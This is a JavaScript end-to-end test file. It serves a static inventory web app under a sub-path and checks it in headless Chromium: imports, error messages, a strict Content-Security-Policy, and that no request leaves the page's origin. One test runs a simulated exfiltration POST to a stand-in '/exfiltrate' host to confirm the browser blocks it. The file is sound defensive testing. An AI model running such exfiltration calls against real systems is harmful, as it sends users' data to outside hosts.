// End-to-end journeys against the built site (dist/), served under a sub-path the way a
// static host would, in Debian's headless Chromium driven by playwright-core.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import fs from "node:fs";
import path from "node:path";
import os from "node:os";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";

const here = path.dirname(fileURLToPath(import.meta.url));
const repo = path.resolve(here, "../..");
const dist = path.join(repo, "dist");
const fixtures = path.join(repo, "tests/fixtures/inventory");
const SUB_PATH = "/tools/regionshift/";
const TYPES = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript",
  ".wasm": "application/wasm",
  ".css": "text/css",
  ".json": "application/json",
  ".svg": "image/svg+xml",
  ".ico": "image/x-icon",
  ".png": "image/png",
};

let server;
let origin;
let browser;

/** A plain static file server for dist/, mounted under SUB_PATH and nothing else. */
function serveDist() {
  return new Promise((resolve) => {
    const srv = http.createServer((req, res) => {
      const url = new URL(req.url, "http://x");
      if (!url.pathname.startsWith(SUB_PATH)) {
        res.writeHead(404).end("not found");
        return;
      }
      let rel = decodeURIComponent(url.pathname.slice(SUB_PATH.length)) || "index.html";
      const file = path.join(dist, path.normalize(rel));
      if (!file.startsWith(dist) || !fs.existsSync(file) || fs.statSync(file).isDirectory()) {
        res.writeHead(404).end("not found");
        return;
      }
      res.writeHead(200, { "content-type": TYPES[path.extname(file)] ?? "application/octet-stream" });
      fs.createReadStream(file).pipe(res);
    });
    srv.listen(0, "127.0.0.1", () => resolve(srv));
  });
}

before(async () => {
  assert.ok(fs.existsSync(path.join(dist, "index.html")), "build the site first (scripts/build)");
  server = await serveDist();
  origin = `http://127.0.0.1:${server.address().port}`;
  // A fresh profile every run: playwright-core takes it as launchPersistentContext's
  // directory rather than as a --user-data-dir argument.
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), "regionshift-e2e-"));
  browser = await chromium.launchPersistentContext(profile, {
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    headless: true,
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      "--no-first-run",
    ],
  });
});

after(async () => {
  await browser?.close();
  server?.close();
});

/** Opens the app and records every request and console error the page makes. */
async function openApp() {
  const page = await browser.newPage();
  const requests = [];
  const errors = [];
  page.on("request", (req) => requests.push(req.url()));
  page.on("websocket", (ws) => requests.push(ws.url()));
  page.on("pageerror", (err) => errors.push(String(err)));
  page.on("console", (msg) => {
    if (msg.type() === "error") errors.push(msg.text());
  });
  await page.goto(origin + SUB_PATH);
  await page.getByTestId("sample-button").waitFor({ timeout: 30000 });
  return { page, requests, errors };
}

async function resourceCount(page) {
  const text = await page.getByTestId("inventory-count").innerText({ timeout: 30000 });
  const digits = text.replace(/[^0-9]/g, "");
  return Number(digits);
}

test("the landing page says nothing leaves the browser and carries a strict CSP", async () => {
  const { page, errors } = await openApp();
  const body = await page.locator("body").innerText();
  assert.match(body, /never leaves|nothing leaves|no data leaves|stays in (this|your) browser/i);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'/);
  assert.doesNotMatch(csp, /https?:/, "the CSP names no other origin");
  assert.deepEqual(errors, []);
  // The browser itself refuses a request to another origin.
  const outcome = await page.evaluate(() =>
    fetch("http://127.0.0.2:9/exfiltrate", { method: "POST", body: "x" }).then(
      () => "sent",
      () => "blocked",
    ),
  );
  assert.equal(outcome, "blocked");
  await page.close();
});

test("the sample estate loads and is counted", async () => {
  const { page, errors } = await openApp();
  await page.getByTestId("sample-button").click();
  await page.getByTestId("inventory-count").waitFor();
  const count = await resourceCount(page);
  assert.ok(count >= 200, `sample has ${count} resources`);
  await page.getByTestId("resource-table").waitFor();
  assert.deepEqual(errors, []);
  await page.close();
});

test("an uploaded Resource Graph export is imported", async () => {
  const { page } = await openApp();
  await page.getByTestId("inventory-input").setInputFiles(path.join(fixtures, "shop-graph.json"));
  await page.getByTestId("inventory-count").waitFor();
  assert.equal(await resourceCount(page), 5);
  const search = page.getByTestId("resource-search");
  await search.fill("web-01");
  await page.waitForFunction(() => document.querySelector('[data-testid="resource-table"]')?.innerText.includes("web-01"));
  await page.close();
});

test("garbage gets a clear error and the good file next to it still loads", async () => {
  const { page } = await openApp();
  await page
    .getByTestId("inventory-input")
    .setInputFiles([path.join(fixtures, "garbage.json"), path.join(fixtures, "shop-graph.json")]);
  await page.getByTestId("diagnostics").waitFor();
  const diagnostics = await page.getByTestId("diagnostics").innerText();
  assert.match(diagnostics, /garbage\.json/);
  assert.match(diagnostics, /not valid JSON at line 1, column \d+/);
  assert.equal(await resourceCount(page), 5);
  await page.close();
});

test("pasted text is imported", async () => {
  const { page } = await openApp();
  const text = fs.readFileSync(path.join(fixtures, "shop-graph.json"), "utf8");
  await page.getByTestId("paste-input").fill(text);
  await page.getByTestId("paste-button").click();
  await page.getByTestId("inventory-count").waitFor();
  assert.equal(await resourceCount(page), 5);
  await page.close();
});

test("no request ever leaves the page's origin", async () => {
  const { page, requests } = await openApp();
  await page.getByTestId("sample-button").click();
  await page.getByTestId("inventory-count").waitFor();
  await page.getByTestId("inventory-input").setInputFiles(path.join(fixtures, "shop-graph.json"));
  await page.getByTestId("resource-search").fill("vnet");
  await page.waitForTimeout(500);
  assert.ok(requests.length > 0, "the page's own assets were seen");
  const foreign = requests.filter((url) => !url.startsWith(origin + "/") && !url.startsWith("data:") && !url.startsWith("blob:"));
  assert.deepEqual(foreign, [], "requests to other origins");
  const outsideSubPath = requests.filter((url) => url.startsWith(origin) && !url.startsWith(origin + SUB_PATH));
  assert.deepEqual(outsideSubPath, [], "every asset is loaded relative to the sub-path");
  await page.close();
});
